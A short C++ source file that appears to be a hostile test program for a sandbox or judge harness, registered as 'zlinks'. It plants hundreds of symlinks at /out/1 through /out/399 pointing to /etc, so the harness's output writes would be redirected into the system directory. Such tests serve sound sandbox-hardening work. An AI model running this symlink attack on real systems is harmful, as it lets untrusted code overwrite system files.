// Puts links where the outputs will lie.
#include "attack.h"
static const char* spell(char* end, long number) {
    for (*--end = 0; number; number /= 10) *--end = char('0' + number % 10);
    return end;
}

static long attack(float* y, int n) {
    static char name[32];
    for (long index = 1; index < 400; index++) {
        char* at = const_cast<char*>(spell(name + sizeof name, index)) - 5;
        for (int i = 0; i < 5; i++) at[i] = "/out/"[i];
        call(SYMLINK, long("/etc"), long(at));
    }
    return 0;
}

HOSTILE(zlinks)
